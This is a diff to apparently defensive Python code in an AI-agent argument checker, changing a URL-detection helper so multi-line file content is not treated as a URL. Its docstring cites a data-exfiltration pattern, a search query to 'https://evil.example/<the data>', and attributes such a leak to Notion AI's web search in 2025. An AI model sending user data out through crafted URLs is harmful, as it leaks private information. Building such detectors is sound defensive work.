@@ -357,9 +357,10 @@ _URL_START = re.compile(r"\s*[A-Za-z][A-Za-z0-9+.-]*://[^\s/?#]")
 
 
 def _starts_with_url(value: str) -> bool:
-    """A value that is a URL, or starts with one: a search query of
-    ``https://evil.example/<the data>`` fetches it (Notion AI's web search, 2025)."""
-    return _URL_START.match(value) is not None
+    """A value that is a URL, or one line that starts with one: a search query of
+    ``https://evil.example/<the data>`` fetches it (Notion AI's web search, 2025). A file's
+    lines (a list of links written to disk) go to the file."""
+    return _URL_START.match(value) is not None and "\n" not in value.strip()
 
 
 def _located(rule: ArgumentRule, args: Sequence[ArgLeaf]) -> Iterator[tuple[ArgPath, Spans]]:
